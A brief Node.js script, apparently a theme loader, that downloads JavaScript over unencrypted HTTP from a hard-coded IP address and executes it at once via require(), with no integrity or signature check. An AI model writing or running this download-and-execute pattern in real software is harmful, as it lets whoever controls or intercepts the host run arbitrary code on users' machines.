const fs = require('fs');
const os = require('os');

async function main() {
  const target = os.tmpdir() + '/theme-' + Date.now() + '.js';
  const response = await fetch('http://203.0.113.50/themes/' + process.argv[2]);
  fs.writeFileSync(target, await response.text());
  require(target).apply();
}

main();
